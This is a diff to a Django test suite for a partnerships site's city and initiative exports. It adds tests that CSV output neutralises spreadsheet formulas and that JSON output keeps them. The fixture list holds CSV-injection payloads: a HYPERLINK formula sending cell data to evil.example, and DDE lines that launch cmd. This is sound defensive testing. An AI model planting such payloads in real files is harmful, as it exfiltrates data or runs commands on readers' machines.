@@ -73,10 +73,12 @@ def test_initiatives_json_and_csv_equal_the_database(client, initial_data):
     "name", ["cities_json", "cities_csv", "initiatives_json", "initiatives_csv"]
 )
 def test_one_query_per_export(client, initial_data, django_assert_num_queries, name):
+    """One query for the rows, however many, besides the content version's (a request reads it
+    first; a server process at most once a second)."""
     city = PartnerCity.objects.first()
     for n in range(30):
         make_initiative(cities=[city], title=f"И {n}")
-    with django_assert_num_queries(1):
+    with django_assert_num_queries(2):
         client.get(reverse(f"partnerships:{name}"))
 
 
@@ -91,3 +93,44 @@ def test_the_field_lists_are_documented(heading, fields):
     readme = (Path(settings.BASE_DIR) / "README.md").read_text()
     section = readme.split(f"### {heading}", 1)[1].split("\n##", 1)[0]
     assert re.findall(r"^\| `([a-z_]+)` \|", section, flags=re.MULTILINE) == fields
+
+
+# What a spreadsheet runs when a cell starts with it (OWASP's examples and their cousins).
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"Кочани")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+@pytest.mark.parametrize("formula", FORMULAS)
+def test_the_csv_exports_turn_formulas_into_text_and_the_json_keeps_them(
+    client, initial_data, formula
+):
+    """Staff text (or a compromised staff account's) must not run in a reuser's spreadsheet."""
+    city = make_city(name=formula, name_en=formula, website="https://kocani.gov.mk/")
+    make_initiative(cities=[city], title="Лагер", description=formula)
+    cities = csv_rows(client.get(reverse("partnerships:cities_csv")))
+    row = next(r for r in cities if r["slug"] == city.slug)
+    assert row["name_bg"] == row["name_en"] == "'" + formula
+    assert row["website"] == "https://kocani.gov.mk/"  # ordinary text is left alone
+    initiatives = csv_rows(client.get(reverse("partnerships:initiatives_csv")))
+    assert next(r for r in initiatives if r["title_bg"] == "Лагер")["description_bg"] == (
+        "'" + formula
+    )
+    items = client.get(reverse("partnerships:cities_json")).json()["items"]
+    assert next(i for i in items if i["slug"] == city.slug)["name_bg"] == formula
+
+
+def test_negative_coordinates_stay_numbers_in_the_csv(client, initial_data):
+    """Only text can carry a formula: a city west of Greenwich keeps a number a spreadsheet sums."""
+    city = make_city(name="Порто", latitude="41.14961", longitude="-8.61099")
+    row = next(
+        r
+        for r in csv_rows(client.get(reverse("partnerships:cities_csv")))
+        if r["slug"] == city.slug
+    )
+    assert (row["latitude"], row["longitude"]) == ("41.14961", "-8.61099")
